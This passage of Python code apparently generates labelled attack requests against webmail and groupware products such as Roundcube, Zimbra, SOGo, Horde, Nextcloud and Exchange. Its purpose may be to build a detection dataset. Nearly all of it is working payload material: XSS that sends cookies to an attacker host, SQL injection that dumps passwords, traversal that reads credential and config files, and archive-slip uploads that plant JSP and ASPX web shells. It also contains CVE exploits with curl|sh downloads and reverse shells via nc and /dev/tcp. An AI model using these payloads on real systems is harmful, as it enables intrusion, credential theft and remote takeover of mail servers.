        ("rc_mbox_reflect", pick(RC_HOSTS), "/?_task=mail&_mbox=%3Csvg%2Fonload%3Dalert(document.cookie)%3E&_action=list"),
        ("rc_search_double", pick(RC_HOSTS), "/?_task=mail&_action=search&_q=%253Cscript%253Ealert(1)%253C%252Fscript%253E&_mbox=INBOX"),
        ("sogo_view", pick(SOGO_HOSTS), "/SOGo/so/bob@example.ch/Contacts/personal/view?search=name_or_address&value=%22%3E%3CiMg%20SrC%3Dx%20OnErRoR%3Dalert(1)%3E"),
        ("horde_url", pick(HORDE_HOSTS), "/horde/util/go.php?url=javascript%3Aalert%28document.cookie%29"),
        ("owa_logon_url", pick(OWA_HOSTS), "/owa/auth/logon.aspx?replaceCurrent=1&url=javascript:alert(document.cookie)//"),
        ("snappy_hash", pick(SNAPPY_HOSTS), "/?/AppData@no-mobile-0/0/%22%3E%3Cbody%20onload%3Dalert(1)%3E/"),
    ]
    for sub, host, uri in reflected:
        emit("xss", sub, "GET", uri, base_headers(host, accept=ACCEPT_HTML, cookie=rc_cookie() if host in RC_HOSTS else None))

    # calendar invites, vCards, contact CSV, folder names
    ics = ics_invite("room").replace("LOCATION;LANGUAGE=en-US:Room 2.14 (Building B)",
                                     "LOCATION;LANGUAGE=en-US:<img src=x onerror=alert(document.cookie)>")
    user = person()[1].split("@")[0]
    emit("xss", "ics_location", "PUT", "/dav/%s@example.net/Calendar/%s.ics" % (user, hexs(16)),
         dav_headers(pick(ZM_HOSTS), "text/calendar; charset=utf-8"), ics)
    ics = ics_invite("room").replace("END:VEVENT", "ATTACH;VALUE=URI:javascript:alert(document.domain)\r\nEND:VEVENT")
    ct, body = multipart([("_file[]", "invite.ics", "text/calendar", ics)])
    emit("xss", "ics_attach_js", "POST", "/?_task=calendar&_action=import_events&_framed=1", rc_headers(pick(RC_HOSTS), ct, xhr=False), body)
    ics = ics_invite("room").replace("DESCRIPTION;LANGUAGE=en-US:", "DESCRIPTION;LANGUAGE=en-US:<details open ontoggle=eval(atob('YWxlcnQoMSk='))>")
    emit("xss", "ics_description", "PUT", "/SOGo/dav/%s/Calendar/personal/%s.ics" % (person()[1], hexs(32).upper()),
         sogo_headers(pick(SOGO_HOSTS), "text/calendar; charset=utf-8"), ics)
    v = vcard().replace("TITLE:Account Director", "TITLE:<script>new Image().src='//%s/?'+document.cookie</script>" % ATK)
    emit("xss", "vcard_title", "PUT", "/remote.php/dav/addressbooks/users/%s/contacts/%s.vcf" % (user, hexs(32)),
         dav_headers(pick(NC_HOSTS), "text/vcard; charset=utf-8"), v)
    rows = "First Name,Last Name,E-mail Address\r\n\"<svg onload=alert(document.domain)>\",Smith,js@%s\r\n" % ATK
    ct, body = multipart([("_token", None, None, alnum(32)), ("_target", None, None, "0"), ("_file[]", "contacts.csv", "text/csv", rows)])
    emit("xss", "contacts_csv", "POST", "/?_task=addressbook&_action=import&_framed=1", rc_headers(pick(RC_HOSTS), ct, xhr=False), body)
    pairs = [("_token", alnum(32)), ("_task", "settings"), ("_action", "save-folder"), ("_mbox", ""),
             ("_name", "Archive<img src=x onerror=alert(1)>"), ("_parent", "INBOX"), ("_framed", "1")]
    emit("xss", "folder_name", "POST", "/?_task=settings&_action=save-folder", rc_headers(pick(RC_HOSTS), "application/x-www-form-urlencoded", xhr=False), form(pairs))
    host = pick(ZM_HOSTS)
    body = {"Header": {"context": zm_context(person()[1])}, "Body": {"ModifyPrefsRequest": {"_jsns": "urn:zimbraAccount", "_attrs": {
        "zimbraPrefOutOfOfficeReply": "Away until Monday <script>alert(document.cookie)</script>", "zimbraPrefOutOfOfficeReplyEnabled": "TRUE"}}}}
    emit("xss", "zimbra_ooo", "POST", "/service/soap/ModifyPrefsRequest", zm_headers(host), json.dumps(body))


def attacks_sqli():
    host_rc = lambda: pick(RC_HOSTS)
    # Roundcube address book (SQL backend) and message parameters
    items = [
        ("rc_addressbook_union", "POST", "/?_task=addressbook&_action=search",
         [("_q", "x' UNION SELECT 1,username,password,4,5,6,7,8 FROM users-- -"), ("_headers", "*"), ("_remote", "1")]),
        ("rc_contact_cid_extractvalue", "GET", "/?_task=addressbook&_action=show&_source=0&_cid=1%27%20AND%20EXTRACTVALUE(1%2CCONCAT(0x7e%2C(SELECT%20password%20FROM%20users%20LIMIT%201)))--%20-&_framed=1", None),
        ("rc_uid_sleep", "GET", "/?_task=mail&_action=show&_uid=1%20AND%20(SELECT%207511%20FROM%20(SELECT(SLEEP(5)))a)&_mbox=INBOX", None),
        ("rc_sort_case", "GET", "/?_task=mail&_action=list&_mbox=INBOX&_sort=" + quote("name,(SELECT CASE WHEN (ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64) THEN name ELSE email END)", safe="") + "&_remote=1", None),
        ("rc_autocomplete_comment", "GET", "/?_task=mail&_action=autocomplete&_search=" + quote("a'/**/UnIoN/**/SeLeCt/**/1,2,concat(username,0x3a,password),4/**/FrOm/**/users#", safe="") + "&_reqid=1", None),
        ("rc_group_double_enc", "GET", "/?_task=addressbook&_action=list&_source=0&_gid=1%2527%2520OR%25201%253D1--%2520-", None),
    ]
    for sub, method, uri, pairs in items:
        if pairs:
            emit("sqli", sub, method, uri, rc_headers(host_rc(), "application/x-www-form-urlencoded; charset=UTF-8"), form(pairs))
        else:
            emit("sqli", sub, method, uri, rc_headers(host_rc()))
    # postfixadmin / mail admin panels
    emit("sqli", "postfixadmin_login", "POST", "/postfixadmin/login.php",
         base_headers("mailadmin.example.com", accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("fUsername", "admin@example.com' OR '1'='1'#"), ("fPassword", "x"), ("lang", "en"), ("submit", "Login")]))
    emit("sqli", "postfixadmin_list", "GET", "/postfixadmin/list.php?table=mailbox&domain=" + quote("example.com' AND 1=CONVERT(int,(SELECT TOP 1 password FROM admin))--", safe=""),
         base_headers("mailadmin.example.com", accept=ACCEPT_HTML, cookie="PHPSESSID=%s" % alnum(26).lower()))
    emit("sqli", "iredadmin_search", "POST", "/iredadmin/search",
         base_headers("mailadmin.example.com", accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("searchString", "%' AND 1=(SELECT 1 FROM pg_sleep(6))-- "), ("accountType", "user"), ("csrf_token", alnum(32))]))
    # groupware searches
    emit("sqli", "sogo_filter", "POST", "/SOGo/so/bob@example.ch/Contacts/personal/view", sogo_headers(pick(SOGO_HOSTS)),
         json.dumps({"search": "name_or_address", "value": "') OR ('1'='1') UNION SELECT c_name,c_content,NULL FROM sogo_folder_info--"}))
    emit("sqli", "horde_turba", "GET", "/turba/search.php?source=localsql&criteria=name&val=" +
         quote("x%' UNION ALL SELECT user_uid,user_pass,NULL,NULL FROM horde_users-- ", safe=""), base_headers(pick(HORDE_HOSTS), accept=ACCEPT_HTML))
    emit("sqli", "nextcloud_filter", "GET", "/index.php/apps/mail/api/messages?mailboxId=3%20OR%201%3D1&filter=" +
         quote("subject:x') OR 1=1 --", safe="") + "&limit=20", base_headers(pick(NC_HOSTS), accept="application/json",
                                                                            extra=[["OCS-APIREQUEST", "true"]]))
    emit("sqli", "ox_search", "PUT", "/appsuite/api/contacts?action=search&columns=1%2C20%2C500&session=" + hexs(32),
         base_headers(pick(OX_HOSTS), accept="application/json", ctype="text/javascript; charset=UTF-8"),
         json.dumps({"display_name": "a' AND SUBSTRING(@@version,1,1)='5", "orSearch": True}))
    emit("sqli", "snappy_contacts", "POST", "/?/Json/&q[]=/0/",
         base_headers(pick(SNAPPY_HOSTS), accept="application/json", ctype="application/json", extra=[["X-SM-Token", hexs(32)]]),
         jesc({"Action": "Contacts", "Offset": 0, "Limit": 20, "Search": "x' UNION SELECT id_contact,prop_value,3 FROM rainloop_ab_properties--"}, "'"))
    jmap_emit("sqli", "jmap_text_filter", [["Email/query", {"accountId": jmap_account(), "filter": {
        "text": "invoice') OR 1=1; SELECT pg_sleep(10)--"}, "limit": 20}, "0"]])
    # webhooks and newsletter tracking (SQL behind helpdesks / ESPs)
    fields = mailgun_fields("Ticket #4411", "hello", "<p>hello</p>")
    fields = [(k, "support@helpdesk.example.com' AND 1=CAST((SELECT version()) AS int)-- " if k == "recipient" else v) for k, v in fields]
    emit("sqli", "mailgun_recipient", "POST", "/webhooks/mailgun/inbound",
         base_headers(pick(HOOK_HOSTS), ua="Go-http-client/1.1", ctype="application/x-www-form-urlencoded"), form(fields))
    emit("sqli", "helpdesk_email", "POST", "/api/tickets.json",
         base_headers("support.example.com", ua="osTicket-mailer/1.18", accept="application/json", ctype="application/json",
                      extra=[["X-API-Key", hexs(32).upper()]]),
         json.dumps({"name": "Bob", "email": "bob@example.com\" OR \"\"=\"", "subject": "help", "message": "data:text/plain,hi"}))
    emit("sqli", "unsubscribe_waitfor", "GET", "/unsubscribe?u=%s&e=1%%27%%3BWAITFOR%%20DELAY%%20%%270%%3A0%%3A7%%27--&c=%s" % (hexs(25), hexs(10)),
         base_headers("list.example-esp.com", accept=ACCEPT_HTML))
    emit("sqli", "tracking_pixel", "GET", "/o/%s.gif?u=1%%27%%20AND%%20SLEEP(5)%%23&c=8812" % hexs(24),
         base_headers("t.example-esp.com", accept="image/avif,image/webp,*/*"))
    emit("sqli", "prefs_lists", "POST", "/preferences/%s/save" % alnum(32),
         base_headers("email.example-shop.com", accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("email", "a@example.com"), ("lists[]", "1) OR 1=1#"), ("lists[]", "2")]))
    emit("sqli", "unsub_path_token", "GET", "/unsubscribe/" + quote("x' or 'a'='a", safe="'") + "/confirm",
         base_headers("news.example-museum.org", accept=ACCEPT_HTML))
    emit("sqli", "list_archive_stacked", "GET", "/list/archive.php?list=ops&msg=1;DECLARE%20@q%20varchar(99);SET%20@q=0x73656c65637420404076657273696f6e;EXEC(@q)--",
         base_headers("lists.example.org", accept=ACCEPT_HTML))
    emit("sqli", "roundcube_login_user", "POST", "/?_task=login",
         base_headers(pick(RC_HOSTS), accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", cookie=rc_cookie()),
         form([("_token", alnum(32)), ("_task", "login"), ("_action", "login"), ("_timezone", "Europe/Berlin"),
               ("_url", ""), ("_user", "admin'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'"), ("_pass", "x")]))


def zip_bytes(entries):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_STORED) as z:
        for name, data in entries:
            zi = zipfile.ZipInfo(name, date_time=(2024, 12, 1, 9, 30, 0))
            z.writestr(zi, data)
    return bio.getvalue()


JSP_SHELL = ('<%@ page import="java.util.*,java.io.*"%><% if (request.getParameter("cmd") != null) { '
             'Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); InputStream in = p.getInputStream(); '
             'int c; while ((c = in.read()) != -1) out.print((char)c); } %>')


def tar_entry(name, data):
    data = data.encode() if isinstance(data, str) else data
    hdr = bytearray(512)
    hdr[0:len(name)] = name.encode()
    hdr[100:108] = b"0000644\x00"
    hdr[108:116] = b"0001750\x00"
    hdr[116:124] = b"0001750\x00"
    hdr[124:136] = ("%011o\x00" % len(data)).encode()
    hdr[136:148] = b"14727162330\x00"
    hdr[148:156] = b"        "
    hdr[156:157] = b"0"
    hdr[257:263] = b"ustar\x00"
    hdr[263:265] = b"00"
    chk = sum(hdr)
    hdr[148:156] = ("%06o\x00 " % chk).encode()
    pad = (512 - len(data) % 512) % 512
    return bytes(hdr) + data + b"\x00" * pad


def attacks_lfi():
    emit("lfi", "zimbra_cve_2013_7091", "GET",
         "/res/I18nMsg,AjxMsg,ZMsg,ZmMsg,AjxKeys,ZmKeys,ZdMsg,Ajx%20TemplateMsg.js.zgz?v=091214175450&skin=../../../../../../../../../opt/zimbra/conf/localconfig.xml%00",
         base_headers(pick(ZM_HOSTS), accept="*/*"))
    emit("lfi", "zimbra_part_traversal", "GET",
         "/service/home/~/?auth=co&id=2291&part=..%2F..%2F..%2F..%2F..%2Fopt%2Fzimbra%2Fconf%2Flocalconfig.xml&disp=a",
         base_headers(pick(ZM_HOSTS), accept=ACCEPT_HTML, cookie=zm_cookie()))
    emit("lfi", "rc_skin_traversal", "GET", "/?_task=login&_skin=../../../../../../../../etc/passwd%00",
         base_headers(pick(RC_HOSTS), accept=ACCEPT_HTML))
    emit("lfi", "rc_installer_cve_2020_12640", "POST", "/installer/index.php?_step=2",
         base_headers(pick(RC_HOSTS), accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("_step", "2"), ("_product_name", "Roundcube Webmail"), ("submit", "UPDATE"),
               ("_plugins_qwerty", "../../../../../../../../../var/lib/php/sessions/sess_%s" % alnum(26).lower())]))
    emit("lfi", "rc_mimeclass", "GET", "/?_task=mail&_action=get&_uid=3&_mbox=INBOX&_part=1&_embed=1&_mimeclass=..%2f..%2f..%2f..%2fconfig%2fconfig.inc.php",
         rc_headers(pick(RC_HOSTS), xhr=False))
    emit("lfi", "snappy_raw_traversal", "GET", "/?/Raw/&q[]=/0/&q[]=/Download/&q[]=/..%2F..%2F..%2Fdata%2F_data_%2F_default_%2Fconfigs%2Fapplication.ini",
         base_headers(pick(SNAPPY_HOSTS), accept="*/*"))
    emit("lfi", "horde_help_module", "GET", "/horde/services/help/?show=about&module=..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd%00",
         base_headers(pick(HORDE_HOSTS), accept=ACCEPT_HTML))
    emit("lfi", "sogo_resources_dotdot", "GET", "/SOGo/WebServerResources/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/sogo/sogo.conf",
         base_headers(pick(SOGO_HOSTS), accept="*/*"))
    emit("lfi", "nextcloud_attachment_id", "GET", "/index.php/apps/mail/api/messages/1/attachment/..%2F..%2F..%2F..%2Fconfig%2Fconfig.php",
         base_headers(pick(NC_HOSTS), accept="*/*", extra=[["OCS-APIREQUEST", "true"]]))
    emit("lfi", "exchange_backslash", "GET",
         "/ecp/auth/..%5C..%5C..%5CProgram%20Files%5CMicrosoft%5CExchange%20Server%5CV15%5CFrontEnd%5CHttpProxy%5Cowa%5Cweb.config",
         base_headers(pick(OWA_HOSTS), accept="*/*"))
    emit("lfi", "owa_attachment_win", "GET", "/owa/service.svc/s/GetFileAttachment?id=..\\..\\..\\..\\windows\\win.ini&X-OWA-CANARY=" + alnum(76),
         base_headers(pick(OWA_HOSTS), accept="*/*", cookie=owa_cookie()))
    emit("lfi", "jmap_download_double", "GET", "/jmap/download/u1a2b3c4/..%252f..%252f..%252f..%252fetc%252fpasswd/x.txt?accept=text/plain",
         base_headers(pick(JMAP_HOSTS), accept="*/*", extra=[["Authorization", "Bearer fmu1-%s" % hexs(56)]]))
    emit("lfi", "zimbra_overlong", "GET", "/service/home/~/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/opt/zimbra/conf/localconfig.xml?fmt=raw",
         base_headers(pick(ZM_HOSTS), accept="*/*", cookie=zm_cookie()))
    emit("lfi", "rc_proc_environ", "GET", "/?_task=utils&_action=html2text&_file=....//....//....//....//proc/self/environ",
         rc_headers(pick(RC_HOSTS)))
    emit("lfi", "horde_attach_file", "GET", "/imp/view.php?actionID=download_attach&id=2&mailbox=SU5CT1g&uid=12&file=../../../../../../etc/shadow",
         base_headers(pick(HORDE_HOSTS), accept="*/*"))
    # archives that climb out of the extraction directory (zip slip)
    z = zip_bytes([("Inbox/0001.eml", eml("hi", "hello")), ("../../../../mailboxd/webapps/zimbraAdmin/0MVzAe6pgwe5go1D.jsp", JSP_SHELL)])
    emit_raw("lfi", "zimbra_cve_2022_27925", "POST", "/service/extension/backup/mboximport?account-name=admin&account-status=1&ow=cmd",
             base_headers(pick(ZM_HOSTS), ua="python-requests/2.31.0", ctype="application/x-www-form-urlencoded"), z)
    z = zip_bytes([("..\\..\\..\\..\\inetpub\\wwwroot\\aspnet_client\\system_web\\help.aspx",
                    '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>')])
    ct, body = multipart([("_token", None, None, alnum(32)), ("_file[]", "archive.zip", "application/zip", z)])
    emit("lfi", "import_zip_backslash", "POST", "/?_task=mail&_action=import&_mbox=INBOX&_framed=1", rc_headers(pick(RC_HOSTS), ct, xhr=False), body)
    t = tar_entry("Inbox/0001-hello.eml", eml("hello", "hi")) + tar_entry("../../../../../opt/zimbra/jetty_base/webapps/zimbra/public/err.jsp", JSP_SHELL) + b"\x00" * 1024
    emit_raw("lfi", "zimbra_tgz_import", "POST", "/service/home/~/?fmt=tar&resolve=replace",
             base_headers(pick(ZM_HOSTS), cookie=zm_cookie(), ctype="application/x-tar"), t)
    ct, body = multipart([("_file[]", "../../../../../../var/www/html/roundcube/public_html/x.php", "application/octet-stream",
                           "<?php echo md5('probe'); ?>")])
    emit("lfi", "upload_filename_traversal", "POST", "/?_task=mail&_id=%s&_uploadid=upload%s&_from=compose&_remote=1&_action=upload" % (hexs(26), ts_ms()),
         rc_headers(pick(RC_HOSTS), ct), body)
    emit("lfi", "zimbra_upload_disposition", "POST", "/service/upload?lbfums=",
         base_headers(pick(ZM_HOSTS), cookie=zm_cookie(), ctype="text/plain",
                      extra=[["Content-Disposition", 'attachment; filename="../../../../opt/zimbra/.ssh/authorized_keys"'],
                             ["X-Zimbra-Csrf-Token", "0_" + hexs(40)]]),
         "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s attacker@box\n" % alnum(43))
    jmap_emit("lfi", "jmap_blob_name", [["Email/import", {"accountId": jmap_account(), "emails": {"e1": {
        "blobId": "../../../../../../etc/passwd", "mailboxIds": {"P1": True}, "keywords": {}}}}, "0"]])


def attacks_rfi():
    emit("rfi", "squirrelmail_sm_path", "GET", "/squirrelmail/plugins/mail_fetch/functions.php?SM_PATH=http://%s/sm/shell.txt?" % ATK,
         base_headers("mail.example-isp.net", accept="*/*", ua="Mozilla/5.0"))
    emit("rfi", "horde_base", "GET", "/horde/services/portal/index.php?horde_base=https%%3A%%2F%%2F%s%%2Fh.txt%%3F&app=horde" % ATK,
         base_headers(pick(HORDE_HOSTS), accept="*/*"))
    emit("rfi", "rc_skin_remote", "GET", "/?_task=login&_skin=ftp://%s/skins/elastic/%%00" % ATK, base_headers(pick(RC_HOSTS), accept=ACCEPT_HTML))
    emit("rfi", "rc_plugin_include", "POST", "/installer/index.php?_step=2",
         base_headers(pick(RC_HOSTS), accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("_step", "2"), ("submit", "UPDATE"), ("_plugins_x", "http://%s/payload/x" % ATK)]))
    emit("rfi", "newsletter_template_url", "GET", "/newsletter/preview.php?template=http://%s/tpl/evil.txt%%3F&id=12" % ATK,
         base_headers("news-admin.example.org", accept=ACCEPT_HTML))
    emit("rfi", "webmail_lang_unc", "GET", "/webmail/index.php?lang=%5C%5C" + ATK + "%5Cshare%5Cen.php",
         base_headers("webmail.example-isp.net", accept=ACCEPT_HTML))
    emit("rfi", "atmail_theme", "POST", "/index.php/mail/settings/save",
         base_headers("atmail.example.com", accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("Theme", "https://%s/themes/inc.php?" % ATK), ("Language", "english")]))


CPIO_MAGIC = "070701"


def cpio_entry(name, data, mode=0o100644, ino=1):
    data = data.encode() if isinstance(data, str) else data
    nb = name.encode() + b"\x00"
    fields = [ino, mode, 0, 0, 1, 1733050000, len(data), 0, 0, 0, 0, len(nb), 0]
    hdr = (CPIO_MAGIC + "".join("%08X" % f for f in fields)).encode()
    out = hdr + nb
    out += b"\x00" * ((4 - len(out) % 4) % 4)
    out += data
    out += b"\x00" * ((4 - len(out) % 4) % 4)
    return out


def attacks_rce():
    # CVE-2016-9920: sendmail arguments through the identity address
    rc_send_attack("rce", "rc_cve_2016_9920", "hi", subject="<?php passthru($_GET['c']); ?>", is_html=False,
                   frm="example@example.com -OQueueDirectory=/tmp -X/var/www/html/roundcube/logs/rce.php")
    # CVE-2020-12641: im_convert_path through the installer
    emit("rce", "rc_cve_2020_12641", "POST", "/installer/index.php",
         base_headers(pick(RC_HOSTS), accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("_step", "2"), ("_product_name", "Roundcube Webmail"), ("_support_url", ""), ("_temp_dir", "/var/www/roundcube/temp/"),
               ("_des_key", alnum(24)), ("_im_convert_path", "php -r '$s=fsockopen(\"%s\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");' #" % ATK),
               ("_im_identify_path", ""), ("submit", "UPDATE")]))
    # CVE-2022-41352: cpio archive with a symlink into the web root (amavis unpacks it)
    cp = (cpio_entry("pwn", "/opt/zimbra/jetty_base/webapps/zimbra/public", mode=0o120777, ino=1)
          + cpio_entry("pwn/help.jsp", JSP_SHELL, ino=2) + cpio_entry("TRAILER!!!", b"", mode=0, ino=0))
    ct, body = multipart([("_file[]", "invoice-scan.cpio", "application/x-cpio", cp)])
    emit("rce", "zimbra_cve_2022_41352", "POST", "/?_task=mail&_id=%s&_uploadid=upload%s&_from=compose&_remote=1&_action=upload" % (hexs(26), ts_ms()),
         rc_headers(pick(RC_HOSTS), ct), body)
    # CVE-2022-37042: mboximport without auth, JSP written via zip slip
    z = zip_bytes([("../../../../mailboxd/webapps/zimbra/public/jsp/Startup3.jsp", JSP_SHELL)])
    emit_raw("rce", "zimbra_cve_2022_37042", "POST", "/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1",
             base_headers(pick(ZM_HOSTS), ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64)", ctype="application/octet-stream"), z)
    # CVE-2024-45519 style: shell in a recipient address
    host = pick(ZM_HOSTS)
    body = {"Header": {"context": zm_context(person()[1])}, "Body": {"SendMsgRequest": {"_jsns": "urn:zimbraMail", "m": {
        "e": [{"t": "t", "a": 'aabbcc"$(curl${IFS}-s${IFS}http://%s/z.sh|sh)"@mail.example.net' % ATK}, {"t": "c", "a": "x@example.net"}],
        "su": {"_content": "test"}, "mp": [{"ct": "text/plain", "content": {"_content": "test"}}]}}}}
    emit("rce", "zimbra_postjournal_rcpt", "POST", "/service/soap/SendMsgRequest", zm_headers(host), json.dumps(body))
    # ImageTragick / Ghostscript through thumbnailing of attachments
    mvg = ('push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://127.0.0.1/x.jpg"|curl -s http://%s/i.sh | bash")\'\npop graphic-context\n' % ATK)
    ct, body = multipart([("_file[]", "photo.png", "image/png", mvg)])
    emit("rce", "imagetragick_upload", "POST", "/?_task=mail&_id=%s&_uploadid=upload%s&_from=compose&_remote=1&_action=upload" % (hexs(26), ts_ms()),
         rc_headers(pick(RC_HOSTS), ct), body)
    eps = ("%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nuserdict /setpagedevice undef\nsave\nlegal\n"
           "{ null restore } stopped { pop } if\n{ legal } stopped { pop } if\nrestore\nmark /OutputFile (%pipe%bash -c 'id > /dev/tcp/" + ATK + "/4444') currentdevice putdeviceprops\n")
    h = jmap_headers(pick(JMAP_HOSTS))
    h = [x for x in h if x[0] != "Content-Type"] + [["Content-Type", "application/postscript"]]
    emit("rce", "ghostscript_upload", "POST", "/jmap/upload/%s/" % jmap_account(), h, eps)
    # command injection in attachment names and admin "test connection" fields
    for sub, fname in [("filename_semicolon", "report.pdf;curl -s http://%s/a.sh|sh;.pdf" % ATK),
                       ("filename_subshell", "$(wget -qO- http://%s/b|sh).docx" % ATK),
                       ("filename_backtick", "`nc -e /bin/sh %s 4444`.xlsx" % ATK)]:
        ct, body = multipart([("_file[]", fname, "application/octet-stream", b"PK\x03\x04" + b"\x00" * 40)])
        emit("rce", sub, "POST", "/?_task=mail&_id=%s&_uploadid=upload%s&_from=compose&_remote=1&_action=upload" % (hexs(26), ts_ms()),
             rc_headers(pick(RC_HOSTS), ct), body)
    emit("rce", "snappy_admin_test", "POST", "/?/AdminAppData/&q[]=/0/",
         base_headers(pick(SNAPPY_HOSTS), accept="application/json", ctype="application/json", extra=[["X-SM-Admin-Token", hexs(32)]]),
         json.dumps({"Action": "AdminDomainTest", "name": "example.com", "IMAP": {"host": "127.0.0.1|bash -c 'bash -i >& /dev/tcp/%s/443 0>&1'" % ATK,
                                                                                   "port": 993, "type": 1}}))
    emit("rce", "iredadmin_ping", "POST", "/iredadmin/system/diag",
         base_headers("mailadmin.example.com", accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("host", "mx.example.com;cat${IFS}/etc/shadow|base64"), ("csrf_token", alnum(32))]))
    # Sieve extensions that run programs
    script = ('require ["vnd.dovecot.execute", "vnd.dovecot.pipe"];\r\nexecute :pipe "sh" ["-c", "curl -s http://%s/s | sh"];\r\n'
              'pipe "sh" ["-c", "nc %s 9001 -e /bin/bash"];\r\n' % (ATK, ATK))
    emit("rce", "sieve_execute", "POST", "/?_task=settings&_action=plugin.managesieve-saveraw",
         rc_headers(pick(RC_HOSTS), "application/x-www-form-urlencoded", xhr=False),
         form([("_token", alnum(32)), ("_set", "roundcube"), ("rawsetcontent", script)]))
    # pipe recipients / forwarding to programs
    rc_send_attack("rce", "pipe_recipient", "test", to='"|/bin/sh -c \'curl http://%s/p|sh\'"' % ATK, is_html=False)
    host = pick(ZM_HOSTS)
    body = {"Header": {"context": zm_context(person()[1])}, "Body": {"ModifyPrefsRequest": {"_jsns": "urn:zimbraAccount", "_attrs": {
        "zimbraPrefMailForwardingAddress": "|/usr/bin/python3 -c 'import os;os.system(\"id>/tmp/o\")'"}}}}
    emit("rce", "zimbra_forward_pipe", "POST", "/service/soap/ModifyPrefsRequest", zm_headers(host), json.dumps(body))
    # password change plugins shelling out
    emit("rce", "rc_password_chpasswd", "POST", "/?_task=settings&_action=plugin.password-save",
         rc_headers(pick(RC_HOSTS), "application/x-www-form-urlencoded", xhr=False),
         form([("_token", alnum(32)), ("_curpasswd", "OldPass1!"), ("_newpasswd", "x';wget -q http://%s/k -O /tmp/k;chmod +x /tmp/k;/tmp/k;'" % ATK),
               ("_confpasswd", "x';wget -q http://%s/k -O /tmp/k;chmod +x /tmp/k;/tmp/k;'" % ATK)]))
    emit("rce", "horde_passwd_ifs", "POST", "/horde/passwd/",
         base_headers(pick(HORDE_HOSTS), accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("userid", "bob"), ("oldpassword", "x"), ("newpassword0", "a$(echo${IFS}Y3VybCBodHRwOi8vYXR0YWNrZXItbXguZXhhbXBsZS5uZXQvcHxzaA==|base64${IFS}-d|sh)"),
               ("newpassword1", "a"), ("submit", "Change Password")]))
    # ProxyShell / ProxyNotShell PowerShell stage
    ps = ('<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" '
          'xmlns:w="http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd"><s:Header><a:To>https://exchange.contoso.com:443/PowerShell?PSVersion=5.1</a:To>'
          '<w:ResourceURI s:mustUnderstand="true">http://schemas.microsoft.com/powershell/Microsoft.Exchange</w:ResourceURI>'
          '<a:Action s:mustUnderstand="true">http://schemas.microsoft.com/wbem/wsman/1/windows/shell/Command</a:Action></s:Header><s:Body>'
          '<rsp:CommandLine xmlns:rsp="http://schemas.microsoft.com/wbem/wsman/1/windows/shell" CommandId="%s"><rsp:Command>'
          'New-MailboxExportRequest -Mailbox administrator@contoso.com -IncludeFolders (&quot;#Drafts#&quot;) -ContentFilter &quot;(Subject -eq \'%s\')&quot; '
          '-ExcludeDumpster -FilePath &quot;\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\%s.aspx&quot;</rsp:Command></rsp:CommandLine></s:Body></s:Envelope>'
          % (hexs(8).upper(), alnum(8), alnum(6)))
    emit("rce", "proxyshell_export", "POST",
         "/autodiscover/autodiscover.json?@evil.example/PowerShell?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBhBZG1pbmlzdHJhdG9yQGNvbnRvc28uY29tVSxTLTEtNS0yMS0&Email=autodiscover/autodiscover.json%3F@evil.example",
         base_headers(pick(OWA_HOSTS), ua="python-requests/2.28.1", ctype="application/soap+xml;charset=UTF-8"), ps)
    emit("rce", "proxynotshell_ps", "POST",
         "/autodiscover/autodiscover.json?@evil.example/PowerShell/?Email=autodiscover/autodiscover.json%3f@evil.example&Protocol=XYZ&FooProtocol=%50owershell",
         base_headers(pick(OWA_HOSTS), ua="Mozilla/5.0 zgrab/0.x", ctype="application/soap+xml;charset=UTF-8",
                      extra=[["Authorization", "Basic " + base64.b64encode(b"contoso\\jdoe:Winter2024!").decode()]]),
         ps.replace("New-MailboxExportRequest", "Invoke-Expression ([System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBFAFgA'))); New-MailboxExportRequest"))
    # ECP ViewState (CVE-2020-0688)
